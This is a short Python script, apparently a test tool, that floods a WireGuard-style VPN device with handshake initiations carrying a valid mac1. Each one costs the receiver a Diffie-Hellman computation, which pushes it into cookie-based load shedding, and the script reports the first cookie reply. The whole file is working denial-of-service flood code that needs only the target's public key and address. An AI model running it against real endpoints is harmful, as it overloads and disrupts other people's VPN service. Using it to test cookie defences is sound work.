#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""usage: flood.py PUBLIC_KEY ADDRESS PORT SOURCE BURST PAUSE: handshake initiations with a valid mac1 and nothing
else (paper 5.4.4) for the device with that key, BURST of them every PAUSE seconds, until it is ended. Each costs
the receiver a Diffie-Hellman computation, so its queue grows and it must ask for cookies; "cookie" is printed at
the first."""
import base64
import hashlib
import os
import socket
import sys
import time

COOKIE_REPLY = (3, 64)  # type, size


def initiation(mac1_key):
    body = b"\x01\0\0\0" + os.urandom(112)
    return body + hashlib.blake2s(body, key=mac1_key, digest_size=16).digest() + bytes(16)


def main(key, address, port, source, burst, pause):
    mac1_key = hashlib.blake2s(b"mac1----" + base64.b64decode(key)).digest()
    messages = [initiation(mac1_key) for _ in range(int(burst))]
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    flood = socket.socket(family, socket.SOCK_DGRAM)
    flood.bind((source, 0))
    flood.connect((address, int(port)))
    flood.settimeout(float(pause))
    told = False
    while True:
        for message in messages:
            flood.send(message)
        until = time.monotonic() + float(pause)
        while time.monotonic() < until:
            try:
                reply = flood.recv(2048)
            except TimeoutError:
                break
            if not told and (reply[0], len(reply)) == COOKIE_REPLY:
                print("cookie", flush=True)
                told = True


main(*sys.argv[1:])
